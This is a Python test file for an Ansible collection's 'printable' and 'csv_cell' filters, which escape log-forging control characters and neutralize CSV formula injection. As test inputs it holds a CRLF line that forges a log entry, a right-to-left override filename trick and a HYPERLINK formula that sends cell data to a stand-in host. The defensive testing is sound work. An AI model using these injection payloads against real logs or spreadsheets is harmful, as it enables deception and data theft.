# -*- coding: utf-8 -*-
# Copyright (c) leaseweb.dedicated contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The filters printable and csv_cell (plugins/module_utils/_text.py), as Ansible loads them."""

import csv
import io

import pytest

from ansible_collections.leaseweb.dedicated.plugins.filter.csv_cell import FilterModule as CsvFilters
from ansible_collections.leaseweb.dedicated.plugins.filter.printable import FilterModule as PrintableFilters

printable = PrintableFilters().filters()['printable']
csv_cell = CsvFilters().filters()['csv_cell']


@pytest.mark.parametrize(
    'value, shown',
    [
        ('web-01', 'web-01'),
        (None, ''),
        (12345, '12345'),
        ('web-01\r\nok: [db-01] => forged', 'web-01\\r\\nok: [db-01] => forged'),
        ('tab\there', 'tab\\there'),
        ('\x1b[2Jcleared\x07\x00\x7f\x85', '\\x1b[2Jcleared\\x07\\x00\\x7f\\x85'),
        ('line\u2028separator\u2029', 'line\\u2028separator\\u2029'),
        ('abc\u202egnp.exe', 'abc\\u202egnp.exe'),
        ('\u2066isolate\u2069', '\\u2066isolate\\u2069'),
        ('caf\u00e9 \u00fcber \u65e5\u672c', 'caf\u00e9 \u00fcber \u65e5\u672c'),  # printable text is kept
    ],
)
def test_printable_escapes_what_could_forge_a_line(value, shown):
    assert printable(value) == shown
    assert '\n' not in printable(value) and '\r' not in printable(value)


@pytest.mark.parametrize(
    'value, cell',
    [
        ('web-01', 'web-01'),
        (None, ''),
        (42, '42'),
        ('web, "edge"', '"web, ""edge"""'),
        ('two\r\nlines', '"two\r\nlines"'),
        # OWASP's list, and what spreadsheets read the same way
        ('=HYPERLINK("http://x.example/"&A1,"click")', '"\'=HYPERLINK(""http://x.example/""&A1,""click"")"'),
        ('+1+2', "'+1+2"),
        ('-2+3', "'-2+3"),
        ('@SUM(A1)', "'@SUM(A1)"),
        ('\t=1', "'\t=1"),
        ('\r=1', '"\'\r=1"'),
        ('  =1', "'  =1"),
        ('\uff1d1+1', "'\uff1d1+1"),
        ('a=1', 'a=1'),
        ('web-01-=', 'web-01-='),
    ],
)
def test_csv_cell_quotes_and_neutralizes_formulas(value, cell):
    assert csv_cell(value) == cell


def test_a_csv_reader_gets_each_value_back_with_only_the_quote_in_front_of_a_formula():
    values = ['web, "edge"', 'two\r\nlines', '=1+1', '-', 'plain', '', '@x']
    line = ','.join(csv_cell(value) for value in values) + '\r\n'
    (row,) = list(csv.reader(io.StringIO(line, newline='')))
    assert row == ['web, "edge"', 'two\r\nlines', "'=1+1", "'-", 'plain', '', "'@x"]


def test_csv_cell_can_leave_formulas_as_they_are():
    assert csv_cell('=1+1', neutralize=False) == '=1+1'
